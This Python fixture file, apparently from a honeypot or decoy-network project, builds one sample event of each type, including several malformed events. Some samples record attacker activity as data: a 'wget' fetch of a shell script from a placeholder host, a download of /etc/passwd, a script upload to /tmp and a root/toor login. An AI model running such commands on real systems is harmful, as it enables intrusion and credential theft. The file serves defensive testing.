"""Events as services write them: at least one of every type."""

from __future__ import annotations

from decnet.events import Event, EventType

FLOW = {
    "network": "office", "decoy": "web-01", "service": "http", "session": "01a20442-95d8-7413-a9e5-0dbc3a5dfb1d",
    "src_ip": "198.51.100.9", "src_port": 50122, "dst_ip": "203.0.113.20", "dst_port": 80, "proto": "tcp",
}  # fmt: skip
NOBODY = {"network": "office"}
TS = "2026-11-22T17:16:42.581513Z"
DIGEST = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"


def _of(kind: EventType, flow: dict | None = None, /, **data: object) -> Event:
    return Event.of(kind, data, ts=TS, **(FLOW if flow is None else flow))


SAMPLES = {
    "open": _of(EventType.OPEN),
    "open over IPv6": _of(EventType.OPEN, {**FLOW, "src_ip": "2001:db8::9", "dst_ip": "2001:db8::20"}),
    "close": _of(EventType.CLOSE, reason="peer: timeout", duration=12.345678, received=812, sent=4096),
    "login": _of(
        EventType.AUTH, {**FLOW, "service": "ssh"}, principal="root", secret="toor", secret_kind="plaintext",
        method="password", outcome="accepted",
    ),
    "refused": _of(EventType.AUTH, principal="", secret="x", secret_kind="plaintext", outcome="refused"),
    "seen": _of(EventType.AUTH, principal="curl", secret="x", secret_kind="plaintext", outcome="seen"),
    "command": _of(EventType.COMMAND, {**FLOW, "service": "ssh"}, command="wget http://203.0.113.7/a.sh", user="root"),
    "redis command": _of(EventType.COMMAND, {**FLOW, "service": "redis"}, command="GET x", db=0),
    "get": _of(
        EventType.REQUEST, method="GET", path="/wp-login.php?a=1", version="1.1", host="www.corp.example",
        user_agent="curl/8.4", headers=["Accept: */*"], status=200, bytes=912, body_size=0, body_sha256=DIGEST, body="",
    ),
    "get from nowhere": _of(EventType.REQUEST, NOBODY, method="GET", path="/", user_agent="curl/8.4", status=200),
    "login with a browser": _of(EventType.AUTH, principal="root", secret="x", method="basic", user_agent="curl/8.4"),
    "odd method": _of(EventType.REQUEST, method="BREW", path="/", user_agent="", status=405, bytes=0),
    "patch": _of(EventType.REQUEST, method="PATCH", path="/x", user_agent="", status=405, bytes=0),
    "no request": _of(EventType.REQUEST, method="", path="", user_agent="", status=400, bytes=0),
    "ssh request": _of(EventType.REQUEST, {**FLOW, "service": "ssh"}, operation="direct-tcpip", host="198.51.100.1"),
    "download": _of(EventType.DOWNLOAD, path="/etc/passwd", size=1024, sha256=DIGEST, method="sftp"),
    "upload": _of(EventType.UPLOAD, path="/tmp/x/a.sh", size=0, sha256=DIGEST, content=b"#!/bin/sh\n\xff", method="scp"),
    "upload without a name": _of(EventType.UPLOAD, path="/", size=1, sha256=DIGEST),
    "fingerprint": _of(EventType.FINGERPRINT, client_banner="SSH-2.0-Go", hassh="92674389fa1e47a27ddd8d9b63ecd42b"),
    "scan": _of(EventType.SCAN, ports=[1, 2, 3]),
    "log": _of(EventType.LOG, {**NOBODY, "decoy": "web-01", "service": "plc"}, text="a line", cut=False),
    "error": _of(EventType.ERROR, error="ValueError", text="bad frame", where="a:1 < b:2"),
    "drift": _of(EventType.STATE, {**NOBODY, "decoy": "web-01"}, state="repaired", cause="link eth0 is down"),
    "apply": _of(EventType.APPLY, NOBODY, outcome="ok", command="apply", user="root", uid=0, add=3),
    "nothing told": Event("", "", EventType.CLOSE, ""),
    "a liar": Event(
        "x" * 300, "yesterday", EventType.REQUEST, "n" * 300, "d" * 300, "s" * 300, "q" * 300, "not an address", -1,
        "999.1.1.1", 70_000, "ESP",
        {"method": 7, "path": [], "user_agent": None, "status": "ok", "bytes": -5, "body_size": 1e300, "host": {}},
    ),
    "a liar of a login": Event(
        "1", TS, EventType.AUTH, "n", "d", "", "", "198.51.100.9", 0, "", 0, "tcp",
        {"principal": {"a": 1}, "outcome": True, "duration": "long", "secret": 1.5},
    ),
    "a liar of a file": Event(
        "1", TS, EventType.UPLOAD, "n", "d", "", "", "198.51.100.9", 0, "", 0, "tcp", {"size": True, "path": 5}
    ),
}  # fmt: skip
